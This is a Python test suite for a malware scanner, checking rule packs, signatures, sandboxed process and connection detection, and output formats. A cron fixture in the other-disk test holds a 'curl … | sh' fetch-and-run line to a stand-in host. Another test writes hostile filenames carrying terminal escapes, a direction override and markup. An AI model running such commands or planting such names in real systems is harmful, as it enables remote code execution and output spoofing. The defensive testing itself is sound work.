# SPDX-License-Identifier: Apache-2.0
"""quetsach-scan as people and other programs run it: packs it believes, what it says and how."""
import base64
import errno
import fcntl
import html.parser
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import tempfile
import termios
import time
import urllib.parse
import zipfile
from pathlib import Path

from flow import PROGRAM, check, same
from scanning import workers

SCANNER = os.environ["QUETSACH_SCAN"]
# Only whole in memory of this test and in the files it makes.
EICAR = b"".join([rb"X5O!P%@AP[4\PZX54(P^)7CC)7}", b"$EICAR-", b"STANDARD-ANTIVIRUS-", b"TEST-FILE!",
    b"$H+H*"])
OURS = r"""
rule QS_Eicar { meta: author = "Quét Sạch" strings: $a = "$EICAR-STANDARD-ANTIVIRUS" condition: $a }
rule QS_Planted { meta: author = "Quét Sạch" family = "Mirai"
    strings: $a = "PLANTED-FOR-MIRAI" condition: $a }
"""
PUBLIC = r"""
rule Public_Planted { meta: author = "A. Person <b>" strings: $a = "PLANTED-PUBLIC" condition: $a }
"""
INFO = """set: quetsach
author: Quét Sạch
licence: Apache-2.0
source: https://example.org/ours

set: public
author: A. Person
licence: DRL-1.1
source: https://example.org/public
"""

LAN = "home/lan"  # somebody who uses the machines made here


class Machine:
    """A folder with packs, something to scan, and the scanner's own folder."""

    def __init__(self):
        self.home = tempfile.TemporaryDirectory(prefix="quetsach-scan-")
        self.folder = Path(self.home.name)
        self.here = self.folder / "scanned"
        self.here.mkdir()
        self.state = self.folder / "state"
        for name, text in (("ours", OURS), ("public", PUBLIC)):
            (self.folder / name).mkdir()
            (self.folder / name / "rules.yar").write_text(text)
        (self.folder / "info").write_text(INFO)
        self.key = self.keygen("key")

    def quetsach(self, *arguments, env=None):
        done = subprocess.run([PROGRAM, *map(str, arguments)], capture_output=True, text=True,
            env={**os.environ, "LC_ALL": "C.UTF-8", **(env or {})})
        same(done.returncode, 0, f"{arguments}: {done.stderr}")

    def keygen(self, name):
        self.quetsach("pack", "keygen", "--output", self.folder / name)
        return self.folder / name

    def pack(self, name, version=1, key=None, env=None, expires=None, pack_id="test"):
        path = self.folder / name
        self.quetsach("pack", "build", "--ours", f"quetsach={self.folder / 'ours'}", "--rules",
            f"public={self.folder / 'public'}", "--set-info", self.folder / "info", "--id", pack_id,
            "--version-number", version, "--key", key or self.key, "--output", path,
            *(["--expires", expires] if expires else []), env=env)
        return path

    def command(self, *arguments, pack=None, state=None):
        return [SCANNER, "--pack", str(pack or self.folder / "one.pack"), "--public-key",
            f"{self.key}.pub", "--state", str(state or self.state), *map(str, arguments)]

    def scan(self, *arguments, status, env=None, **places):
        """What is written is bytes: names need not be text."""
        done = subprocess.run(self.command(*arguments, **places), capture_output=True,
            env={**os.environ, "LC_ALL": "C.UTF-8", **(env or {})})
        if done.returncode != status:
            raise SystemExit(f"FAILED: {arguments}: exit {done.returncode}, expected {status}\n"
                f"{done.stdout!r}\n{done.stderr!r}")
        return done

    def lines(self, *arguments, status, **places):
        done = self.scan("--json", *arguments, status=status, **places)
        return [json.loads(line) for line in done.stdout.splitlines()]


def on_terminal(command, columns=72, env=None, interrupt=None):
    """What a terminal of so many columns gets, and the exit status."""
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, columns, 0, 0))
    child = subprocess.Popen(command, stdin=slave, stdout=slave, stderr=slave,
        start_new_session=True, preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),
        env={**os.environ, "LC_ALL": "C.UTF-8", **(env or {})})
    os.close(slave)
    got = b""
    while True:
        if interrupt and interrupt in got:
            os.write(master, b"\x03")
            interrupt = None
        try:
            piece = os.read(master, 65536)
        except OSError as problem:
            same(problem.errno, errno.EIO, "end of the terminal")
            piece = b""
        if not piece:
            break
        got += piece
    os.close(master)
    return got.decode("utf-8", "strict"), child.wait()


def outcomes_and_lines(m):
    (m.here / "fine.txt").write_text("nothing here\n")
    lines = m.lines(m.here, status=0)
    same([line["type"] for line in lines], ["summary"], "a clean folder")
    for key, value in dict(files=1, bytes=13, infected=0, suspicious=0, not_scanned=0).items():
        same(lines[-1][key], value, f"summary {key}")
    same((lines[-1]["pack"], lines[-1]["pack_version"]), ("test", 1), "the pack in the summary")

    (m.here / "eicar.com").write_bytes(EICAR)
    with zipfile.ZipFile(m.here / "a.zip", "w", zipfile.ZIP_DEFLATED) as outer:
        outer.writestr("deep/planted.txt", "x" * 3000 + "PLANTED-FOR-MIRAI" + "y" * 3000)
    (m.here / "maybe.txt").write_text("PLANTED-PUBLIC")
    lines = m.lines(m.here, status=1)
    found = {(Path(f["path"]).name, f["object"]): f for f in lines if f["type"] == "finding"}
    eicar = found["eicar.com", ""]
    same(eicar["outcome"], "infected", "EICAR's outcome")
    same(eicar["rules"], [{"set": "quetsach", "rule": "QS_Eicar", "author": "Quét Sạch"}], "rules")
    same(found["maybe.txt", ""]["outcome"], "suspicious", "a public rule is no proof")
    inside = [f for (name, at), f in found.items() if name == "a.zip" and "planted.txt" in at]
    same([f["family"] for f in inside], ["Mirai"], "the family of what lies in the archive")
    same((lines[-1]["infected"], lines[-1]["suspicious"]), (2, 1), "counted once a file")

    alone = m.folder / "alone"
    alone.mkdir()
    (alone / "large").write_text("z" * 5000)
    lines = m.lines("--max-size", "4K", alone, status=3)
    same([(line["type"], line.get("reason")) for line in lines],
        [("not_scanned", "size"), ("summary", None)], "larger than allowed")
    m.scan(m.folder / "not-there", status=2)
    m.scan("--json", "--all-matches", alone, status=2)
    m.scan("--workers", "many", alone, status=2)
    m.scan("--max-size", "0", alone, status=2)
    m.scan("--html", m.folder / "x", "--sarif", m.folder / "x", alone, status=2)
    m.scan("--nonsense", alone, status=2)


def other_disk(m):
    """A mounted disk: where it starts programs, and its files; nothing of the machine that runs."""
    disk = m.folder / "disk"
    for folder in ("etc/cron.d", "home/lan/Downloads", "srv"):
        (disk / folder).mkdir(parents=True)
    (disk / "etc/cron.d/update").write_text("# a comment\n* * * * * root curl -s http://x.invalid/a | sh\n")
    (disk / "etc/crontab").write_text("17 * * * * root cd / && run-parts /etc/cron.hourly\n")
    (disk / "home/lan/Downloads/a").write_text("PLANTED-FOR-MIRAI")
    (disk / "srv/b").write_text("PLANTED-FOR-MIRAI")
    lines = m.lines("--root", disk, status=1)
    kinds = {f["path"]: f["kind"] for f in lines if f["type"] == "finding"}
    same(kinds, {f"{disk}/etc/cron.d/update": "place", f"{disk}/{LAN}/Downloads/a": "file",
        f"{disk}/srv/b": "file"}, "what is on the disk")
    odd = next(f for f in lines if f.get("kind") == "place")
    same((odd["outcome"], odd["rules"][0]["rule"]), ("suspicious", "fetches-and-runs"), "why")
    check(odd["object"].startswith("line 2: "), "which line")
    same((lines[-1]["places"], lines[-1]["processes"], lines[-1]["connections"]), (2, 0, 0), "totals")
    quick = m.lines("--root", os.path.relpath(disk), "--quick", status=1)
    same({f["path"] for f in quick if f["type"] == "finding"}, set(kinds) - {f"{disk}/srv/b"},
        "quick: only where malware is dropped")
    said = m.scan("--root", disk, "--lang", "vi", status=1).stdout.decode()
    for words in ("etc/cron.d/update, dòng 2", "theo giờ hẹn", "tải một chương trình từ mạng về",
            "Đã xem 2 nơi tự chạy"):
        check(words in said, f"{words} in {said}")
    check("Rút dây mạng" not in said, "the machine that runs is not the one that is ill")


def nonsense(m):
    """What cannot be meant together is refused before anything is done, with the reason."""
    disk = m.folder / "disk"
    for arguments, words in ((("--quick", disk), "--quick and"), (("--root", disk, disk), "--root and"),
            (("--root", m.folder / "nowhere"), "nowhere: not found"),
            (("--root", disk / "etc/crontab"), "no folder"), (("--root", "/"), "leave it out"),
            (("--resume", "--no-cache", disk), "--resume and --no-cache"),
            (("--resume", "--root", disk), "--resume and --root"),
            (("--explain", "mirai", "--quick"), "--explain and --quick"),
            ((m.here, m.folder / "nowhere"), "nowhere: not found")):
        done = m.scan(*arguments, status=2)
        check(words.encode() in done.stderr and not done.stdout, f"{arguments}: {done.stderr!r}")


# A machine as small as can be: its own mounts and processes, with one that runs from a deleted file.
SMALL = r"""
set -e
mount -t tmpfs none "$1"
cd "$1"; shift
mkdir usr proc etc tmp data packs dev home home/lan out
mount --bind /usr usr
for name in bin lib lib64; do [ ! -e usr/$name ] || ln -s usr/$name $name; done
mount -t proc proc proc
mount -t tmpfs none data
touch dev/null
mount --bind /dev/null dev/null
cp -r "$FROM"/disk/. .
cp "$FROM"/*.pack "$FROM"/*.minisig "$FROM"/key.pub packs
echo root:x:0:0:root:/root:/bin/sh >etc/passwd
cp "$QUETSACH_SCAN" scan
cp srv/b data/on-another-disk
mkdir -p home/lan/.local/state
cp -r "$FROM"/texts-state home/lan/.local/state/quetsach-scan
cp -r "$FROM"/texts-state home/lan/.local/state/copy
cp usr/bin/sleep tmp/runs
cat srv/b >>tmp/runs
chroot . /tmp/runs 600 &
until case $(readlink proc/$!/exe) in */tmp/runs) ;; *) false ;; esac; do sleep 0.1; kill -0 $!; done
rm tmp/runs
if [ -n "$TALK" ]; then
	chroot . /usr/bin/python3 -c "$TALK" &
	until [ -e out/talking ]; do sleep 0.1; kill -0 $!; done
fi
[ -z "$NOBODY" ] || { chmod -R a+rX packs; set -- setpriv --reuid 65534 --clear-groups "$@"; }
exec chroot . "$@"
"""


# Talks to itself, over addresses that this machine has for itself only; says what is done.
TALK = r"""
import fcntl, socket, struct, time
one = socket.socket()
def change(what, name, value):
    fcntl.ioctl(one, what, struct.pack("16s16s", name, value))
SIOCSIFFLAGS, SIOCSIFADDR, UP = 0x8914, 0x8916, 0x1
change(SIOCSIFFLAGS, b"lo", struct.pack("h", UP))
change(SIOCSIFADDR, b"lo:1", struct.pack("HH4s", socket.AF_INET, 0, socket.inet_aton("11.22.33.44")))
waiting = socket.create_server(("11.22.33.44", 4321))
one.connect(("11.22.33.44", 4321))
other, _ = waiting.accept()
open("/etc/hosts", "w").write("127.0.0.1 localhost\n11.22.33.9 www.planted-name.net\n")
open("/etc/resolv.conf", "w").write("search home.arpa\nnameserver 11.22.33.77\n")
open("/out/talking", "w").close()
time.sleep(600)
"""


def small_machine(m, *arguments, status, nobody=False, pack="one.pack", talk=""):
    place = m.folder / "small"
    place.mkdir(exist_ok=True)
    command = ["unshare", "-mpfn", "sh", "-c", SMALL, "sh", place, "/scan", "--pack", f"/packs/{pack}",
        "--public-key", "/packs/key.pub", "--state", "/out/state", *arguments]
    done = subprocess.run(list(map(str, command)), capture_output=True, env={**os.environ,
        "FROM": str(m.folder), "LC_ALL": "C.UTF-8", "NOBODY": "1" if nobody else "", "TALK": talk,
        "ASAN_OPTIONS": "detect_leaks=0"})
    if status is not None and done.returncode != status:
        raise SystemExit(f"FAILED: {arguments}: exit {done.returncode}, expected {status}\n"
            f"{done.stdout!r}\n{done.stderr!r}")
    return done


def whole_machine(m):
    if os.geteuid() != 0 or subprocess.run(["unshare", "-mpf", "true"]).returncode != 0:
        print("no rights to make a small machine: the whole of one not tried")
        return
    m.lines(m.folder / "ours", status=1, state=m.folder / "texts-state")
    done = small_machine(m, "--json", "--exclude", "/usr/*", status=1)
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    found = {f["path"]: f for f in lines if f["type"] == "finding"}
    process = next(f for f in lines if f.get("kind") == "process" and f["outcome"] == "infected")
    same((process["process"]["program"], process["process"]["owner"]), ("/tmp/runs", "root"), "who")
    same(process["family"], "Mirai", "what is in a file without a name")
    check(process["path"].split()[1] == str(process["process"]["pid"]), "its number")
    check({"/srv/b", "/data/on-another-disk", "/etc/cron.d/update"} <= set(found), f"{set(found)}")
    check(f"/{LAN}/.local/state/quetsach-scan/engine" not in found, "another user's engine")
    check(f"/{LAN}/.local/state/copy/engine" in found, "its copy elsewhere is a file like others")
    strays = [f for f in lines if f.get("kind") == "process" and "runs" not in f["path"]]
    same(strays, [], "the scanner's own processes")
    check(lines[-1]["places"] > 1 and lines[-1]["processes"] > 0, "totals")

    done = small_machine(m, "--quick", "--lang", "vi", status=1)
    quick = done.stdout.decode()
    check("chương trình đang chạy runs (số" in quick and "bằng tài khoản root" in quick, f"{done}")
    # On a machine that is busy with other things its time may be up before.
    late = "hết thời gian" in quick
    check("/srv/b" not in quick and (late or "home/lan/Downloads/a" in quick), f"dropped: {done}")
    check("sudo" not in quick, "root is told nothing of rights")

    mine = small_machine(m, "--quick", "--lang", "en", status=1, nobody=True)
    words = mine.stdout.decode()
    check("sudo /scan --pack /packs/one.pack" in words, f"how to see all: {words}")
    same(words.count("sudo"), 1, "told once")
    check("exe (number" not in words, f"its own processes are no riddle to it: {words}")


def whom_it_talks_to(m):
    """A real connection to a listed address, a listed name among the machine's own, a listed resolver."""
    if os.geteuid() != 0 or subprocess.run(["unshare", "-mpfn", "true"]).returncode != 0:
        return
    (m.folder / "list").write_text("11.22.33.44:4321 # planted control\n11.22.33.77 # planted resolver\n"
        "planted-name.net # planted name\n11.22.33.44:80 # another port\n")
    pack = m.folder / "listed.pack"
    m.quetsach("pack", "build", "--ours", f"quetsach={m.folder / 'ours'}", "--indicators",
        f"quetsach={m.folder / 'list'}", "--id", "test", "--version-number", 1, "--key", m.key, "--output", pack)
    done = small_machine(m, "--quick", "--for", "600", "--json", status=1, pack=pack.name, talk=TALK)
    found = [json.loads(line) for line in done.stdout.splitlines()]
    found = [line for line in found if line.get("kind") == "connection"]
    same({line["outcome"] for line in found}, {"infected"}, f"what the campaign lists: {found}")
    told = {(line["path"].split(" (")[-1], line["object"], line["rules"][0]["rule"]) for line in found}
    talks = {line for line in told if line[0].startswith("python3") and line[2] == "planted control"}
    check(talks and all("11.22.33.44:4321" in line[1] for line in talks), f"the connection: {told}")
    rest = sorted((path, rule) for path, _, rule in told - talks)
    same(rest, [("/etc/hosts", "planted name"), ("/etc/resolv.conf", "planted resolver")], "names")
    holder = next(line for line in found if line["path"].startswith("process "))["process"]
    check(holder["owner"] == "root" and "python3" in holder["program"], f"who talks: {holder}")
    words = small_machine(m, "--quick", "--for", "600", "--lang", "vi", status=1, pack=pack.name,
        talk=TALK).stdout.decode()
    check("kết nối mạng tới 11.22.33.44:4321" in words, f"in words: {words}")
    pack.unlink()


def time_is_up(m):
    """A scan that may take a second only, of files that take minutes: it says what it did not see."""
    slow, later = m.folder / "slow", m.folder / "later"
    for folder in (slow, later):
        folder.mkdir()
    for i in range(300):
        (slow / f"{i}").write_bytes(b"z" * 100000)
    lines = m.lines("--for", "1", "--io", "100K", "--no-cache", slow, later, status=3)
    check(lines[-1]["time_up"] and lines[-1]["interrupted"], f"the end came: {lines[-1]}")
    check(lines[-1]["files"] < 300, f"before all was seen: {lines[-1]}")
    same({line["reason"] for line in lines[:-1]}, {"interrupted"}, "why")
    told = {line["path"] for line in lines[:-1]}
    check(str(later) in told and any(path.startswith(f"{slow}/") for path in told), f"what: {told}")
    words = m.scan("--for", "1", "--io", "100K", "--no-cache", "--lang", "vi", slow, later, status=3)
    check("hết thời gian" in words.stdout.decode() and "--for" in words.stdout.decode(), "in words")
    m.scan("--for", "0", slow, status=2)


def time_is_up_quick(m):
    if os.geteuid() != 0 or subprocess.run(["unshare", "-mpf", "true"]).returncode != 0:
        return
    done = small_machine(m, "--quick", "--for", "1", "--io", "1K", "--json", status=None)
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    told = {line["path"] for line in lines if line.get("reason") == "interrupted"}
    check(lines[-1]["time_up"], f"the end came: {lines[-1]}")
    check({"/tmp", f"/{LAN}/Downloads"} <= told, f"what is dropped was not reached: {told}")


def few_open_files(m):
    """Where a program may have few files open at once it takes longer and sees the same."""
    deep = m.folder / "few"
    deep.joinpath(*"abcdefghijklmnopqrstuvwxyz").mkdir(parents=True)
    for folder in (deep, deep.joinpath(*"abcdefgh"), deep.joinpath(*"abcdefghijklmnopqrstuvwxyz")):
        for i in range(150):
            (folder / f"{i}.txt").write_text(f"nothing {i}\n")
        (folder / "eicar.com").write_bytes(EICAR)
    for most in (48, 64, 100, 300, 500):
        done = subprocess.run(["sh", "-c", f'ulimit -n {most}; exec "$@"', "sh", *m.command("--json",
            "--no-cache", deep)], capture_output=True)
        last = json.loads(done.stdout.splitlines()[-1])
        same((done.returncode, last["files"], last["infected"], last["not_scanned"]), (1, 453, 3, 0),
            f"{most} files: {done.stderr!r}")
    done = subprocess.run(["sh", "-c", 'ulimit -n 30; exec "$@"', "sh", *m.command(deep)],
        capture_output=True)
    same((done.returncode, done.stdout), (2, b""), "too few")
    check(b"ulimit -n 1024" in done.stderr, f"what to do: {done.stderr!r}")


def pairs(m):
    done = m.scan("--all-matches", m.here, status=1)
    lines = set(done.stdout.decode().splitlines())
    check(f"quetsach:QS_Eicar {m.here}/eicar.com" in lines, "a pair of the plain file")
    check(f"public:Public_Planted {m.here}/maybe.txt" in lines, "a pair of a public rule")
    same(len(lines), 3, "pairs")


HOSTILE = [b"new\nline", b"escape\x1b[31mred", b"bad\xff\xfeutf8", "right\u202egpj.exe".encode(),
    b"quote'\"<script>&", b"c1\xc2\x9b31m", "c\u00f3 d\u1ea5u".encode(), b"\x7f\t\r"]


def hostile_names(m):
    folder = m.folder / "hostile"
    folder.mkdir()
    for name in HOSTILE:
        with open(os.path.join(os.fsencode(folder), name), "wb") as out:
            out.write(b"PLANTED-FOR-MIRAI")
    lines = m.lines(folder, status=1)
    names = {base64.b64decode(f["path_base64"]) if "path_base64" in f else f["path"].encode()
        for f in lines if f["type"] == "finding"}
    same(names, {os.path.join(os.fsencode(folder), name) for name in HOSTILE}, "names in JSON")
    same(sum("path_base64" in f for f in lines), 1, "only what is no UTF-8 stands beside")

    page, sarif = m.folder / "hostile.html", m.folder / "hostile.sarif"
    done = m.scan("--html", page, "--sarif", sarif, folder, status=1)
    for text in (done.stdout.decode("utf-8"), page.read_text("utf-8")):
        wrong = [c for c in text if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160
            or 0x202a <= ord(c) <= 0x202e]
        same(wrong, [], "characters that steer a terminal or turn text around")
    check("\\u{202E}" in done.stdout.decode(), "a turned name is shown for what it is")
    check("<script" not in page.read_text("utf-8"), "no markup of a name in the page")
    results = json.loads(sarif.read_text("utf-8"))["runs"][0]["results"]
    paths = {urllib.parse.unquote_to_bytes(r["locations"][0]["physicalLocation"]
        ["artifactLocation"]["uri"].removeprefix("file://")) for r in results}
    same(paths, names, "names in SARIF, byte by byte")


def refused(m, reason, **places):
    done = m.scan("--json", m.here, status=2, **places)
    same(done.stdout, b"", f"{reason}: nothing is scanned")
    check(reason.encode() in done.stderr, f"{reason!r} in {done.stderr!r}")


def only_our_packs(m):
    good = m.folder / "one.pack"
    signature = m.folder / "one.pack.minisig"
    for at in (0, 40, len(good.read_bytes()) - 1):
        changed = bytearray(good.read_bytes())
        changed[at] ^= 1
        (m.folder / "changed.pack").write_bytes(changed)
        shutil.copy(signature, m.folder / "changed.pack.minisig")
        refused(m, "does not fit", pack=m.folder / "changed.pack")
    shutil.copy(good, m.folder / "changed.pack")
    text = signature.read_text()
    (m.folder / "changed.pack.minisig").write_text(text.replace("version:1", "version:9"))
    refused(m, "does not fit", pack=m.folder / "changed.pack")
    (m.folder / "changed.pack.minisig").write_text("nonsense")
    refused(m, "does not fit", pack=m.folder / "changed.pack")
    (m.folder / "changed.pack.minisig").unlink()
    refused(m, "is missing", pack=m.folder / "changed.pack")
    m.pack("foreign.pack", key=m.keygen("other"))
    refused(m, "does not fit", pack=m.folder / "foreign.pack")
    refused(m, "not found", pack=m.folder / "no.pack")

    key = Path(f"{m.key}.pub").read_text().splitlines()[1]
    done = subprocess.run([SCANNER, "--pack", good, "--public-key", key, "--state", m.state, "--json",
        m.here], capture_output=True)
    same(done.returncode, 1, "the key itself on the command line")
    done = subprocess.run([SCANNER, "--pack", good, "--public-key", m.folder / "info", m.here],
        capture_output=True)
    same(done.returncode, 2, "no key")


def never_backwards(m):
    state = m.folder / "versions"
    old, new = m.pack("v3.pack", 3), m.pack("v4.pack", 4)
    other = m.pack("other-id.pack", 1, pack_id="another")
    m.lines(m.here, status=1, pack=old, state=state)
    m.lines(m.here, status=1, pack=new, state=state)
    refused(m, "older than version 4", pack=old, state=state)
    m.lines(m.here, status=1, pack=other, state=state)
    m.lines(m.here, status=1, pack=new, state=state)
    refused(m, "older than version 4", pack=old, state=state)
    past = m.pack("past.pack", 5, env={"SOURCE_DATE_EPOCH": "1600000000"}, expires="2020-12-01")
    done = m.scan("--json", m.here, status=1, pack=past, state=state)
    check(b"expired on 01/12/2020" in done.stderr, "an old pack is said to be old, and used")


def kept_engine(m):
    first = m.lines(m.here, status=1)
    engine = m.state / "engine"
    same(engine.stat().st_mode & 0o777, 0o600, "mode of the kept engine")
    same(m.state.stat().st_mode & 0o777, 0o700, "mode of the folder")
    made = engine.stat().st_mtime_ns
    m.lines(m.here, status=1)
    same(engine.stat().st_mtime_ns, made, "found ready the second time")
    size = engine.stat().st_size
    for at in (0, 5, 20, 50, 60, 100, 130, 4096, size // 2, size - 1):
        bytes_ = bytearray(engine.read_bytes())
        bytes_[at] ^= 0x40
        engine.write_bytes(bytes_)
        done = m.scan("--json", m.here, status=1)
        told = b"damaged or was changed" in done.stderr
        # Another form, pack or program needs no alarm.
        check(told or at in (5, 60, 100), f"byte {at} of the engine changed: {done.stderr!r}")
        check(engine.read_bytes() != bytes(bytes_), f"byte {at}: made anew")
        again = [json.loads(line) for line in done.stdout.splitlines()]
        same(len(again), len(first), f"byte {at}: the same findings")
    for cut in (0, 10, 4095, 4096, size - 1):
        engine.write_bytes(engine.read_bytes()[:cut])
        done = m.scan("--json", m.here, status=1)
        check(b"damaged or was changed" in done.stderr, f"engine cut at {cut}")
    engine.chmod(0o644)
    done = m.scan("--json", m.here, status=1)
    check(b"damaged or was changed" in done.stderr, "an engine that others could read")
    other = m.folder / "other-state"
    m.lines(m.here, status=1, state=other)
    shutil.copy(other / "engine", engine)
    done = m.scan("--json", m.here, status=1)
    check(b"damaged or was changed" in done.stderr, "an engine under another key")
    m.state.chmod(0o755)
    done = m.scan("--json", m.here, status=1)
    check(b"Nothing is remembered" in done.stderr, "a folder that others may enter")
    m.state.chmod(0o700)
    m.lines(m.here, status=1, state="/proc/nowhere")


# Files that nobody touched for a while, on a disk: only of such a verdict is remembered. What Python
# compiles of them may come at any time.
STILL = Path(os.__file__).parent / "encodings"
OF_STILL = ("--exclude", "*/__pycache__", STILL)


def is_still():
    return all(max(status.st_ctime, status.st_mtime) < time.time() - 120
        for status in (path.stat() for path in STILL.glob("*.py")))


def many_rules(m, count):
    """The command with a pack of so many, and the scanner's folder."""
    folder, pack = m.folder / f"many-{count}", m.folder / f"many-{count}.pack"
    folder.mkdir()
    with open(folder / "r.yar", "w", encoding="ascii") as rules:
        for i in range(count):
            texts = " ".join(f'$t{j} = "planted {i * 37 % 601} text {j * i} of many" wide nocase' for j in range(8))
            rules.write(f"rule Many{i} {{ strings: {texts} condition: 3 of them }}\n")
    m.quetsach("pack", "build", "--rules", f"public={folder}", "--set-info", m.folder / "info", "--id", "many",
        "--version-number", 1, "--key", m.key, "--output", pack)
    state = m.folder / f"many-state-{count}"
    return m.command("--lang", "vi", m.here / "fine.txt", pack=pack, state=state), state


def interrupted_while_preparing(m):
    """Many rules take a while to prepare: the terminal tells, and Ctrl-C is answered. On a fast machine it
    takes more of them to be in time."""
    for count in (600, 1200, 2400):
        command, state = many_rules(m, count)
        shown, status = on_terminal(command, columns=200, interrupt="đã được".encode())
        if "engine" not in os.listdir(state):
            break
    check(re.search(r"đã được \d+ giây", shown), f"how long it takes: {shown}")
    check(shown.rstrip().endswith("sẽ làm lại từ đầu."), f"what became of it: {shown}")
    same((status, os.listdir(state)), (2, ["key"]), "nothing half-done")
    shown, status = on_terminal(command, columns=200)
    check("Không phát hiện" in shown and "engine" in os.listdir(state), f"prepared the next time: {shown}")
    same(status, 0, "status then")
    shown, _ = on_terminal(command, columns=200)
    check("đã được" not in shown, "what is ready needs no preparing")


def known_verdicts(m):
    files = m.lines(*OF_STILL, status=0)[-1]["files"]
    cached = m.lines(*OF_STILL, status=0)[-1]["cached"]
    if cached == 0 or not is_still():
        print(f"{STILL} is new or on no disk: remembered verdicts not tried")
        return
    same(cached, files, "unchanged files are known")
    same(m.lines("--no-cache", *OF_STILL, status=0)[-1]["cached"], 0, "--no-cache")
    verdicts = m.state / "verdicts"
    bytes_ = bytearray(verdicts.read_bytes())
    bytes_[-5] ^= 1
    verdicts.write_bytes(bytes_)
    done = m.scan("--json", *OF_STILL, status=0)
    check(b"not used" in done.stderr, f"changed verdicts are told: {done.stderr!r}")
    same(json.loads(done.stdout.splitlines()[-1])["cached"], 0, "and not believed")
    newer = m.pack("newer.pack", 2)
    same(m.lines(*OF_STILL, status=0, pack=newer)[-1]["cached"], 0, "of another pack")
    (m.state / "versions").unlink()


def own_things(m):
    """Rules' texts lie in the engine, which would fit them."""
    lines = m.lines(m.state, m.folder / "one.pack", m.folder / "one.pack.minisig", status=0)
    same(lines[-1]["files"], 0, "the scanner does not look at what is its own")


def languages(m):
    vietnamese = m.scan("--lang", "vi", m.here, status=1).stdout.decode()
    english = m.scan("--lang", "en", m.here, status=1).stdout.decode()
    for word in ("BỊ NHIỄM", "NGHI NGỜ", "Mã độc Mirai", "Nên làm gì bây giờ", "Đã quét xong"):
        check(word in vietnamese, f"{word} in Vietnamese")
    for word in ("INFECTED", "SUSPICIOUS", "Malware Mirai", "What to do now", "Scanned"):
        check(word in english, f"{word} in English")
    check("an toàn" not in vietnamese, "clean is never called safe")
    by_locale = m.scan(m.here, status=1, env={"LC_ALL": "vi_VN.UTF-8"}).stdout.decode()
    check("BỊ NHIỄM" in by_locale, "language of the locale")
    about = vietnamese.count("camera, đầu ghi hình")
    same(about, 1, "a family is described once")
    quiet = m.scan("--quiet", "--lang", "vi", m.here, status=1)
    check("BỊ NHIỄM" in quiet.stdout.decode(), "findings are said quietly too")
    check("Nên làm gì" not in quiet.stdout.decode(), "nothing but findings")
    same(m.scan("--quiet", m.here / "fine.txt", status=0).stdout, b"", "quiet about nothing")
    explained = m.scan("--explain", "mirai", "--lang", "vi", status=0).stdout.decode()
    check("camera" in explained, "a family explained")
    m.scan("--explain", "no such thing", status=2)
    for lang in ("vi", "en"):
        usage = m.scan("--help", "--lang", lang, status=0).stdout.decode()
        check("--public-key" in usage and "--sarif" in usage, "help names the options")
    check(b"quetsach-scan " in m.scan("--version", status=0).stdout, "version")


def on_screen(m):
    piped = m.scan(m.here, status=1)
    check(b"\x1b" not in piped.stdout + piped.stderr, "no colour when piped")
    same(piped.stderr, b"", "no progress when piped")
    shown, status = on_terminal(m.command(m.here, "--lang", "vi"))
    same(status, 1, "status on a terminal")
    check("\x1b[1;31mBỊ NHIỄM" in shown, "colour on a terminal")
    plain = re.sub(r"\x1b\[[0-9;]*[mK]", "", shown).replace("\r", "\n")
    long = [line for line in plain.split("\n") if len(line) > 72 and str(m.here) not in line]
    same(long, [], "lines within the terminal's width")
    shown, _ = on_terminal(m.command(m.here), env={"NO_COLOR": "1"})
    check("\x1b[1;" not in shown, "NO_COLOR")


def progress_and_interruption(m):
    state = m.folder / "interrupted"
    whole = m.lines("--no-cache", *OF_STILL, status=0)[-1]
    speed = str(whole["bytes"] // 10)
    command = m.command("--io", speed, "--lang", "vi", *OF_STILL, state=state)
    shown, status = on_terminal(command, interrupt="còn khoảng".encode())
    same(status, 3, "interrupted, nothing found")
    words = " ".join(re.sub(r"\x1b\[[0-9;]*[mK]", "", shown).split())
    check("Đã dừng giữa chừng" in words and "chưa thể kết luận" in words, f"what is done: {words}")
    check("thêm --resume" in words, f"how to go on: {words}")
    last = m.lines("--resume", *OF_STILL, status=0, state=state)[-1]
    same((last["files"], last["interrupted"]), (whole["files"], False), "in the end all")
    known = m.lines(*OF_STILL, status=0, state=state)[-1]["cached"] > 0
    check(not known or 0 < last["cached"] < last["files"], f"going on where it stopped: {last}")

    child = subprocess.Popen(m.command("--json", "--io", speed, "--no-cache", *OF_STILL),
        stdout=subprocess.PIPE)
    while child.poll() is None and not workers(child):
        time.sleep(0.01)
    # Stopped by a person (Ctrl-Z needs a shell above it) or with the machine, it goes on as if
    # nothing had been.
    child.send_signal(signal.SIGSTOP)
    same(os.WIFSTOPPED(os.waitpid(child.pid, os.WUNTRACED)[1]), True, "it stops")
    time.sleep(1.5)
    same(os.waitpid(child.pid, os.WNOHANG | os.WCONTINUED), (0, 0), "still stopped")
    child.send_signal(signal.SIGCONT)
    time.sleep(0.5)
    same(child.poll(), None, "SIGCONT goes on")
    child.send_signal(signal.SIGTERM)
    last = json.loads(child.communicate()[0].splitlines()[-1])
    same((child.returncode, last["interrupted"], last["not_scanned"]), (3, True, 1), "SIGTERM")


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text, self.outside = [], "", []

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.outside += [value for name, value in attributes
            if name in ("src", "href") and value and not value.startswith("#")]

    def handle_data(self, data):
        self.text += data


def report_for_people(m):
    for lang, words in (("vi", ("Tìm thấy mã độc ở 2 nơi", "Nên làm gì bây giờ",
            "Các từ dùng trong báo cáo")), ("en", ("Malware was found. Infected: 2",
            "What to do now", "Words in this report"))):
        path = m.folder / f"report-{lang}.html"
        m.scan("--quiet", "--html", path, "--lang", lang, m.here, status=1)
        page = Page()
        page.feed(path.read_text("utf-8"))
        for word in (*words, "Mirai", "QS_Eicar", "A. Person", "DRL-1.1", "eicar.com"):
            check(word in page.text, f"{word} in the report")
        check("script" not in page.tags, "nothing runs")
        same([a for a in page.outside if not a.startswith("https://")], [], "nothing is fetched")
        same(path.stat().st_mode & 0o777, 0o600, "whose paths these are is their own business")
    clean = m.folder / "clean.html"
    m.scan("--html", clean, "--lang", "vi", m.here / "fine.txt", status=0)
